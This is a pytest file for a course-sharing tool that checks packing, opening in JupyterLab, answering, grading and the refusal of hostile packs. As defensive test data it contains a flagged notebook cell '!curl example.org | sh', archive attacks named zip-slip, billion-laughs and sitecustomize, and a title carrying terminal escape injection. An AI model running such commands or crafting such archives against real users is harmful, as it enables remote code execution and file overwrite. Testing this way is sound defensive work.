"""A course is packed, opened, answered, submitted and graded by the commands that people type."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from typing import TYPE_CHECKING

import packs
import pytest

from copydesk.course.course import Course
from copydesk.sharing.packing import pack_course

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ANSWER = """
import copydesk
desk = copydesk.open("01-ferry")
desk.answer({task!r}, {{"kind": "choice", "chosen": [{chosen!r}]}})
"""


def environment(**more: str) -> dict[str, str]:
    """Return an environment in which only the folder says which course it is."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith("COPYDESK_")}
    return {**kept, "CI": "1", "PYTHONUNBUFFERED": "1", **more}


def run(*arguments: object, cwd: Path, code: int = 0) -> str:
    """Run a command in a folder, without anyone to ask, and return what it printed."""
    command = [sys.executable, "-m", "copydesk", *map(str, arguments)]
    ended = subprocess.run(
        command,
        cwd=cwd,
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        env=environment(),
        stdin=subprocess.DEVNULL,
    )
    assert ended.returncode == code, ended.stdout + ended.stderr
    return ended.stdout + ended.stderr


def opened_lines(*arguments: object, cwd: Path) -> Iterator[str]:
    """Open a course as a learner does, wait until JupyterLab is there, and close it; yield what was printed."""
    command = [sys.executable, "-m", "copydesk", "lab", *map(str, arguments), "--no-browser"]
    with subprocess.Popen(
        command, cwd=cwd, env=environment(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
    ) as running:
        assert running.stdout
        for line in running.stdout:
            yield line
            if re.search(r"127\.0\.0\.1:[0-9]+", line):
                break
        running.terminate()
        try:
            running.wait(timeout=60)
        finally:
            running.kill()


def answer(course: Path, folder: str, task: str, chosen: str, *, alias: str = "") -> None:
    """Answer a task in the working copy of a course, as its notebook's kernel would; submit it under an alias."""
    code = ANSWER.format(task=task, chosen=chosen)
    if alias:
        code += f"desk.submit({alias!r})\n"
    place = course / "my-work" / folder
    assert place.is_dir()
    subprocess.run([sys.executable, "-c", code], cwd=place, env=environment(COPYDESK_COURSE=str(course)), check=True)


@pytest.fixture
def author(tmp_path: Path) -> Path:
    """Return the folder of the course's author."""
    return packs.write_course(tmp_path / "author")


def test_a_learner_opens_a_pack_and_the_author_grades_it(author: Path, tmp_path: Path) -> None:
    """A pack without keys opens in JupyterLab, is answered, and its submission is graded in the author's folder."""
    said = run("pack", cwd=author)
    assert "no keys" in said
    learner = tmp_path / "learner"
    learner.mkdir()
    shutil.move(author / "ferry.zip", learner / "ferry.zip")
    refused = run("lab", "ferry.zip", cwd=learner, code=1)
    assert packs.STATEMENT in refused
    assert "programs that run on this computer" in refused
    assert [path.name for path in learner.iterdir()] == ["ferry.zip"]
    said = "".join(opened_lines("ferry.zip", "--yes", cwd=learner))
    assert "Unpacked into" in said
    assert not (learner / "ferry" / "solutions").exists()
    answer(learner / "ferry", "exercises", "T1", "office", alias="Ada")
    (submission,) = (learner / "ferry" / "my-work" / "submissions").glob("*.json")
    said = "".join(opened_lines("ferry.zip", "--yes", cwd=learner))
    assert "Your work there is kept" in said
    assert submission.is_file()
    (author / "in").mkdir()
    shutil.copy(submission, author / "in")
    run("grade", "in", "--out", "graded", cwd=author)
    with (author / "graded" / "gradebook.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert "20" in {value.removesuffix(".0") for value in row.values()}


def test_a_colleague_grades_and_builds_with_a_pack_with_keys(author: Path, tmp_path: Path) -> None:
    """A pack with keys has all that a colleague needs: for grading, and for the book."""
    run("pack", "--keys", cwd=author)
    colleague = tmp_path / "colleague"
    colleague.mkdir()
    shutil.move(author / "ferry-with-keys.zip", colleague / "ferry.zip")
    "".join(opened_lines("ferry.zip", "--yes", cwd=colleague))
    answer(colleague / "ferry", "exercises", "T1", "office", alias="Bo")
    (submission,) = (colleague / "ferry" / "my-work" / "submissions").glob("*.json")
    (colleague / "in").mkdir()
    shutil.copy(submission, colleague / "in")
    said = run("grade", "../in", "--out", "../graded", cwd=colleague / "ferry")
    assert "1" in said
    run("book", "--out", "../site", cwd=colleague / "ferry")
    page = (colleague / "site" / "lessons" / f"{packs.LESSON}.html").read_text(encoding="utf-8")
    assert "The late ferry" in page


def test_two_packs_do_not_mix_answers(tmp_path: Path) -> None:
    """Two courses with the same lesson and tasks, opened side by side, keep their answers apart."""
    here = tmp_path / "here"
    here.mkdir()
    for name in ("ferry", "tram"):
        root = packs.write_course(tmp_path / name, id=name, title=name.title())
        (here / f"{name}.zip").write_bytes(pack_course(Course(root), keys=False).content)
        "".join(opened_lines(f"{name}.zip", "--yes", cwd=here))
    answer(here / "ferry", "lessons", "P1", "office")
    answer(here / "tram", "lessons", "P1", "ferry")
    chosen = {}
    for name in ("ferry", "tram"):
        data = json.loads((here / name / "my-work" / "answers" / "01-ferry.json").read_text(encoding="utf-8"))
        chosen[data["course"]] = data["answers"]["P1"]["response"]["chosen"]
    assert chosen == {"ferry": ["office"], "tram": ["ferry"]}


def test_checking_a_pack_says_what_it_would_run(tmp_path: Path) -> None:
    """A check of someone's pack names the cell that does more, runs none of it, and leaves nothing behind."""
    (tmp_path / "x.zip").write_bytes(packs.SEEN["shell"]())
    said = run("check", "x.zip", cwd=tmp_path, code=1)
    assert "cell 3: runs a command: !curl example.org | sh" in said
    assert "example.org" in said
    assert f"{packs.NOTEBOOK}\n  " in said  # the ordinary check: its grade, its heading
    assert [path.name for path in tmp_path.iterdir()] == ["x.zip"]


@pytest.mark.parametrize("command", ["lab", "check"])
@pytest.mark.parametrize("name", ["zip-slip", "billion-laughs", "sitecustomize", "truncated", "escape-in-name"])
def test_a_hostile_pack_ends_both_commands(tmp_path: Path, command: str, name: str) -> None:
    """Neither command unpacks a bent pack, not even with ``--yes``, and what it prints can't rule the terminal."""
    (tmp_path / "x.zip").write_bytes(packs.REFUSED[name]())
    options = ["--yes"] if command == "lab" else []
    said = run(command, "x.zip", *options, cwd=tmp_path, code=1)
    assert "copydesk pack" in said
    assert "Traceback" not in said
    assert "\x1b" not in said
    assert [path.name for path in tmp_path.iterdir()] == ["x.zip"]


def test_a_strange_course_ends_the_check_with_a_sentence(tmp_path: Path) -> None:
    """A file that is YAML but no bank is a problem of that file, and no traceback."""
    (tmp_path / "x.zip").write_bytes(packs.bent({packs.QUIZ: b"- 1\n- {a: [b]}\n"}))
    said = run("check", "x.zip", cwd=tmp_path, code=1)
    assert packs.QUIZ in said
    assert "Traceback" not in said


def test_what_a_course_says_cannot_rule_the_terminal(tmp_path: Path) -> None:
    """A check prints the words of someone else's course, and none of them gives the terminal orders."""
    quiz = packs.files_of(packs.honest())[packs.QUIZ].decode()
    task = quiz.replace("title: Who says so?", 'title: "\\e[2J TO BE WRITTEN: \\e]0;x\\a"').encode()
    (tmp_path / "x.zip").write_bytes(packs.bent({packs.QUIZ: task}))
    said = run("check", "x.zip", cwd=tmp_path, code=1)
    assert "\x1b" not in said
    assert "\x07" not in said


def test_a_course_that_is_not_there_is_said(tmp_path: Path) -> None:
    """A wrong name of a file or folder is named, with what to do."""
    assert "none.zip" in run("lab", "none.zip", cwd=tmp_path, code=1)
    assert "none.zip" in run("check", "none.zip", cwd=tmp_path, code=1)
    assert "seeds/article.txt" in run("pack", tmp_path, cwd=tmp_path, code=1)
    assert "no folder" in run("pack", "none", cwd=tmp_path, code=1)
